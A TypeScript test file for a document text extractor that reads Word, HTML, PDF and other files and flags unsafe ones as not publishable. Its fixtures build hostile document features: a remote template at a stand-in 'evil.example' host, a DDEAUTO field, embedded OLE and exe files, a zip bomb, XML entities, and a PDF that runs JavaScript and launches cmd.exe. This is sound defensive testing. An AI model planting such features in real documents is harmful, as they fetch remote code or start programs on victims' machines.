import { PDFDocument, PDFName, PDFString } from 'pdf-lib'
import { describe, expect, it } from 'vitest'
import { zipOf } from '../../../tests/zip.ts'
import { docOf, para } from './doc.ts'
import { pdfOf } from './pdf-of.ts'
import { textOfDocument } from './text-of-document.ts'

const date = new Date('2026-11-21T10:00:00Z')

const relation = (id: string, type: string, target: string, external = false): string =>
  `<Relationship Id="${id}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${external ? ' TargetMode="External"' : ''}/>`

const relations = (...each: readonly string[]): string =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${each.join('')}</Relationships>`

/** A Word document of paragraphs as XML, with what else is in the file. */
function wordOf(body: string, more: Readonly<Record<string, string>> = {}): Buffer {
  const namespace = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
  const parts: Record<string, string> = {
    '[Content_Types].xml':
      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
    '_rels/.rels': relations(relation('rId1', 'officeDocument', 'word/document.xml')),
    'word/document.xml': `<w:document xmlns:w="${namespace}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:body>${body}</w:body></w:document>`,
    'word/_rels/document.xml.rels': relations(
      relation('rId1', 'numbering', 'numbering.xml'),
      relation('rId2', 'styles', 'styles.xml'),
      relation('rId3', 'hyperlink', 'https://www.example.org/paper', true),
    ),
    ...more,
  }
  return zipOf(Object.entries(parts).map(([name, text]) => ({ name, bytes: Buffer.from(text) })))
}

const p = (text: string, properties = ''): string =>
  `<w:p>${properties && `<w:pPr>${properties}</w:pPr>`}<w:r><w:t xml:space="preserve">${text}</w:t></w:r></w:p>`
const numbered = (text: string, level: number, list = 1): string =>
  p(text, `<w:numPr><w:ilvl w:val="${level}"/><w:numId w:val="${list}"/></w:numPr>`)
const level = (at: number, format: string, text: string, start = 1): string =>
  `<w:lvl w:ilvl="${at}"><w:start w:val="${start}"/><w:numFmt w:val="${format}"/><w:lvlText w:val="${text}"/></w:lvl>`
const numbering = `<w:numbering xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:abstractNum w:abstractNumId="0">${level(0, 'decimal', '%1.', 3)}${level(1, 'decimal', '%1.%2')}${level(2, 'lowerLetter', '(%3)')}</w:abstractNum><w:abstractNum w:abstractNumId="1">${level(0, 'bullet', '•')}</w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num><w:num w:numId="2"><w:abstractNumId w:val="1"/></w:num></w:numbering>`

const htmlFile = (text: string): Buffer =>
  Buffer.from(`<!doctype html><html><body>${text}</body></html>`)

const codes = async (bytes: Uint8Array): Promise<readonly string[]> =>
  (await textOfDocument(bytes, 'x')).problems.map(each => each.code)

describe('a Word document', () => {
  it('is read with its tables, links and the numbers that Word counts', async () => {
    const body = [
      p('Minutes', '<w:pStyle w:val="Heading1"/>'),
      numbered('Apologies', 0),
      numbered('None were received.', 1),
      numbered('Everyone came.', 1),
      p('Between.'),
      numbered('Actions', 0),
      numbered('The plan is noted.', 1),
      numbered('by March', 2),
      numbered('a point', 0, 2),
      '<w:p><w:hyperlink r:id="rId3"><w:r><w:t>the paper</w:t></w:r></w:hyperlink></w:p>',
      `<w:tbl><w:tr><w:tc>${p('Item')}</w:tc><w:tc>${p('Owner')}</w:tc></w:tr></w:tbl>`,
    ].join('')
    const styles =
      '<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:style w:type="paragraph" w:styleId="Heading1"><w:name w:val="heading 1"/></w:style></w:styles>'
    const read = await textOfDocument(
      wordOf(body, { 'word/numbering.xml': numbering, 'word/styles.xml': styles }),
      'minutes.pdf',
    )
    expect(read.kind).toBe('word')
    expect(read.text.split(/\n+/)).toEqual([
      'Minutes',
      '3. Apologies',
      '3.1 None were received.',
      '3.2 Everyone came.',
      'Between.',
      '4. Actions',
      '4.1 The plan is noted.',
      '(a) by March',
      '• a point',
      'the paper <https://www.example.org/paper>',
      'Item\tOwner',
    ])
    expect(read).toMatchObject({ mayPublish: true, problems: [] })
  })

  it('with macros is read, says so, and may not be published', async () => {
    const read = await textOfDocument(wordOf(p('Words'), { 'word/vbaProject.bin': 'x' }), 'm.docx')
    expect(read).toMatchObject({ kind: 'word', text: 'Words', mayPublish: false })
    expect(read.problems[0]?.message).toMatch(/has macros/)
    expect(read.mayPublish ? '' : read.because).toMatch(/because it has macros\. Bring a copy/)
  })

  it('is told to fetch, to embed and to start other programs', async () => {
    const template = {
      'word/_rels/settings.xml.rels': relations(
        relation('rId1', 'attachedTemplate', 'https://evil.example/t.dotm', true),
      ),
    }
    expect(await codes(wordOf(p('x'), template))).toEqual(['external'])
    expect(await codes(wordOf(p('x'), { 'word/embeddings/oleObject1.bin': 'x' }))).toEqual([
      'embedded',
    ])
    const cut =
      '<w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\x</w:instrText></w:r></w:p>'
    expect(await codes(wordOf(p('x') + cut))).toEqual(['dde'])
    const struck =
      '<w:p><w:del w:id="1" w:author="A"><w:r><w:delText>old</w:delText></w:r></w:del></w:p>'
    expect(await textOfDocument(wordOf(p('new') + struck), 'x')).toMatchObject({
      text: 'new',
      problems: [{ code: 'tracked' }],
      mayPublish: true,
    })
  })

  it('that is a bomb, is cut short, is locked or declares entities is refused in a sentence', async () => {
    const bomb = zipOf([
      { name: 'word/document.xml', bytes: Buffer.alloc(1000), claimedSize: 900_000_000 },
    ])
    expect(await codes(bomb)).toEqual(['unpacks-too-large'])
    expect(await codes(wordOf(p('x')).subarray(0, 700))).toEqual(['damaged'])
    const entity = { 'word/document.xml': '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>' }
    expect(await codes(wordOf('', entity))).toEqual(['damaged'])
    const ole = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1])
    const locked = Buffer.concat([ole, Buffer.from('EncryptedPackage', 'utf16le')])
    expect(await codes(locked)).toEqual(['locked'])
    expect(await codes(ole)).toEqual(['old-word'])
  })
})

describe('a page of HTML', () => {
  const text = async (markup: string): Promise<string> =>
    (await textOfDocument(htmlFile(markup), 'x.txt')).text

  it('is read with headings apart, items as they are numbered, cells apart by tabs', async () => {
    expect(
      await text(
        '<h1>Cabinet</h1><p>On&nbsp;Monday,<br>at <b>two</b>.</p><ol start="3" type="a"><li>one</li><li value="9">two<ul><li>in it</li></ul></li><li>three</li></ol><table><tr><th>Name</th><th>Cost</th></tr><tr><td><p>A</p></td><td></td><td>£1</td></tr><tr><td></td><td>2</td></tr></table><p>See <a href="https://example.org/a">the paper</a>, <a href="#x">below</a>.</p>',
      ),
    ).toBe(
      'Cabinet\n\nOn Monday,\nat two.\n\nc. one\ni. two\n  • in it\nj. three\n\nName\tCost\nA\t\t£1\n\t2\n\nSee the paper <https://example.org/a>, below.',
    )
  })

  it('is read without scripts, styles and what is hidden, and then not published', async () => {
    const read = await textOfDocument(
      htmlFile('<style>p{}</style><p>Seen<script>alert("x")</script></p><p hidden>Not</p><p>again'),
      'x',
    )
    expect(read).toMatchObject({ kind: 'html', text: 'Seen\n\nagain', mayPublish: false })
    expect(read.problems[0]?.code).toBe('scripts')
  })

  it('however deep or broken is read to its end', async () => {
    const deep = `${'<div>'.repeat(50_000)}deep${'</li>'.repeat(9)}`
    expect(await text(deep)).toBe('deep')
    expect(await text('<p>a<td>b</tr></ol><li>c</s></a>d')).toContain('d')
  })
})

describe('a PDF', () => {
  it('is read, and with scripts, launches or files in it may not be published', async () => {
    const plain = await pdfOf(docOf('Paper', [para('One'), { kind: 'pageBreak' }, para('Two')]), {
      date,
    })
    const read = await textOfDocument(plain, 'x.docx')
    expect(read).toMatchObject({ kind: 'pdf', problems: [], mayPublish: true })
    expect(read.text.split('\f')).toHaveLength(2)
    const acting = await PDFDocument.load(plain)
    acting.addJavaScript('hello', 'app.alert("x")')
    await acting.attach(Buffer.from('x'), 'x.exe')
    acting.catalog.set(
      PDFName.of('OpenAction'),
      acting.context.obj({ S: 'Launch', F: PDFString.of('cmd.exe') }),
    )
    expect((await codes(await acting.save())).toSorted()).toEqual([
      'pdf-embedded',
      'pdf-launch',
      'pdf-script',
    ])
    expect(await codes(plain.subarray(0, 300))).toEqual(['damaged'])
  })
})

describe('any other file', () => {
  it('is told by what is in it and refused in a sentence', async () => {
    expect(await codes(Buffer.from('{\\rtf1 hello}'))).toEqual(['rtf'])
    const odt = zipOf([{ name: 'mimetype', bytes: Buffer.from('x') }])
    // The kind of an OpenDocument stands uncompressed at its start.
    const stored = Buffer.concat([
      odt.subarray(0, 38),
      Buffer.from('application/vnd.oasis.opendocument.text'),
      odt,
    ])
    expect(await codes(stored)).toEqual(['odt'])
    expect(await codes(Buffer.from([0xff, 0xd8, 0xff, 0xe0]))).toEqual(['other-kind'])
    expect(await codes(Buffer.alloc(0))).toEqual(['empty'])
    expect(await codes(Buffer.from('MIME-Version: 1.0\nSubject: x\n'))).toEqual(['mail'])
  })

  it('of more bytes than are read is refused with both sizes', async () => {
    const read = await textOfDocument(Buffer.alloc(3_000_000, 'a'), 'big.txt', {
      mostBytes: 2_500_000,
    })
    expect(read.problems[0]?.message).toBe(
      'This file has 3 MB; the most that is read is 2.5 MB. Nothing of it was kept.',
    )
    expect(read).toMatchObject({ kind: null, text: '', mayPublish: false })
  })

  it('of plain text is read in whichever letters it is written', async () => {
    const read = await textOfDocument(
      Buffer.from('\ufeffMinutes – 1 < 2 <b>\r\nof £5', 'utf16le'),
      'x',
    )
    expect(read).toMatchObject({
      kind: 'text',
      text: 'Minutes – 1 < 2 <b>\nof £5',
      mayPublish: true,
    })
    expect((await textOfDocument(Buffer.from('\u00a35 \u0096', 'latin1'), 'x')).text).toBe('£5 –')
  })
})
